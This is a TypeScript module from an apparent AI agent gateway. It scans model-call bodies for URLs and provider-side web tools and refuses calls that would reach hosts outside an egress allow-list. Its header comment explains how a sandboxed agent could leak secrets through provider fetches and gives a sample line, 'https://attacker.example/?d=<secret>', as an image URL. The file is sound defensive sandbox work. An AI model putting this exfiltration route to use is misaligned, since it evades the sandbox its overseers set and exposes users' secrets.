/**
 * What a model call asks the provider to reach for the agent. The egress fence keeps the agent's own
 * connections to the gateway (and `allowed-hosts`), but the provider fetches on its side whatever a
 * call names: an image, a file or a document given by URL, an MCP server, and its server-side tools
 * go to the web (web search, web fetch, URL context). A fenced agent could send what it read to any
 * host that way: `https://attacker.example/?d=<secret>` as an image. So, while the fence is asked
 * for, the gateway refuses a call that names a URL on a host `allowed-hosts` does not list, or that
 * gives the model a tool reaching the web (`reachesPastFence`). Pure: the parsed body in, the reaches out.
 */
import { allows, type AllowedHost } from '../config/allowed-hosts.js';

/** One thing a call asks the provider to reach, where the body asks it (a JSON path). */
export type Reach =
  | { kind: 'url'; at: string; host: string; port: number }
  | { kind: 'url'; at: string; host?: undefined; scheme: string }
  | { kind: 'tool'; at: string; tool: string }
  /** A body that could not be checked (not JSON, or more than MAX_NODES objects and lists): not let through. */
  | { kind: 'unchecked'; at: string; why: string };

/** Keys whose string value the providers fetch when it is a URL (OpenAI, Anthropic, OpenRouter, Gemini's OpenAI API). */
const URL_KEYS = new Set([
  'url',
  'image_url',
  'file_url',
  'audio_url',
  'video_url',
  'document_url',
  'server_url',
  'file_uri',
  'fileUri'
]);

/** Server-side tools that reach the web from the provider (a tool definition's `type`). */
const WEB_TOOL = /^(web_search|web_fetch|mcp|url_context|google_search|browser_search)/i;

/** A scheme the provider would fetch: anything but inline data. */
const SCHEME = /^\s*([a-z][a-z0-9+.-]*):/i;

/** How many objects and arrays are looked at, at most: a body is bounded (server.ts), and so is this walk. */
const MAX_NODES = 1_000_000;

function urlReach(at: string, value: string): Reach | undefined {
  const scheme = SCHEME.exec(value)?.[1]?.toLowerCase();
  if (!scheme || scheme === 'data') return undefined;
  let url: URL;
  try {
    url = new URL(value.trim());
  } catch {
    return { kind: 'url', at, scheme };
  }
  const port = Number(url.port) || (url.protocol === 'http:' || url.protocol === 'ws:' ? 80 : 443);
  const host = url.hostname.replace(/^\[|\]$/g, '');
  return host ? { kind: 'url', at, host, port } : { kind: 'url', at, scheme };
}

/** The top-level asks that turn on the provider's web search (OpenAI's, OpenRouter's). */
function topLevel(body: Record<string, unknown>): Reach[] {
  const found: Reach[] = [];
  if (body.web_search_options !== undefined)
    found.push({ kind: 'tool', at: 'web_search_options', tool: 'web_search_options' });
  if (typeof body.model === 'string' && /:online$/i.test(body.model))
    found.push({ kind: 'tool', at: 'model', tool: `${body.model} (web search)` });
  if (Array.isArray(body.plugins))
    body.plugins.forEach((plugin, i) => {
      const id = (plugin as { id?: unknown } | null)?.id;
      if (typeof id === 'string' && id.toLowerCase() === 'web')
        found.push({ kind: 'tool', at: `plugins[${i}]`, tool: 'web plugin' });
    });
  return found;
}

/**
 * Every URL and web tool the body asks the provider to reach. The walk keeps its own stack (a body
 * nested deeper than the call stack is no crash) and stops at MAX_NODES containers, which refuses
 * the call: a body too big to check is not let through unchecked.
 */
export function reachOf(body: unknown): Reach[] {
  if (typeof body !== 'object' || body === null) return [];
  const found = Array.isArray(body) ? [] : topLevel(body as Record<string, unknown>);
  const stack: { value: object; at: string; inTools: boolean }[] = [
    { value: body, at: '', inTools: false }
  ];
  let nodes = 0;
  const push = (value: unknown, at: string, inTools: boolean): void => {
    if (typeof value !== 'object' || value === null) return;
    if (++nodes <= MAX_NODES) stack.push({ value, at, inTools });
  };
  for (let next = stack.pop(); next; next = stack.pop()) {
    const { value, at, inTools } = next;
    if (Array.isArray(value)) {
      value.forEach((item, i) => push(item, `${at}[${i}]`, inTools));
      continue;
    }
    const record = value as Record<string, unknown>;
    if (inTools && typeof record.type === 'string' && WEB_TOOL.test(record.type))
      found.push({ kind: 'tool', at, tool: record.type });
    for (const [key, child] of Object.entries(record)) {
      const where = at ? `${at}.${key}` : key;
      const reach =
        typeof child === 'string' && URL_KEYS.has(key) ? urlReach(where, child) : undefined;
      if (reach) found.push(reach);
      push(child, where, inTools || key === 'tools' || key === 'mcp_servers');
    }
  }
  if (nodes > MAX_NODES)
    found.push({
      kind: 'unchecked',
      at: 'the whole body',
      why: `holds more than ${MAX_NODES.toLocaleString('en-US')} objects and lists, too many to check`
    });
  return found;
}

/** What the fence lets the provider reach: a URL on a listed host; never a web tool. */
export function reachesPastFence(reach: Reach, hosts: readonly AllowedHost[]): boolean {
  if (reach.kind !== 'url') return true;
  return reach.host === undefined || !allows(hosts, reach.host, reach.port);
}

/** The refusal's words: what was asked, where in the body, and what would let it. */
export function reachRefusal(reach: Reach): string {
  const what =
    reach.kind === 'unchecked'
      ? `${reach.why} for what the provider would fetch`
      : reach.kind === 'tool'
        ? `gives the model the provider's ${JSON.stringify(reach.tool)}, which reaches the web from the provider`
        : reach.host !== undefined
          ? `asks the provider to fetch from ${reach.host}:${reach.port}, a host "allowed-hosts" does not list`
          : `asks the provider to fetch a ${JSON.stringify(reach.scheme)} URL it cannot check`;
  return `model gateway: the call ${what} (at ${reach.at}), past the egress fence; refused. "allowed-hosts: *" lets the agent reach any host`;
}
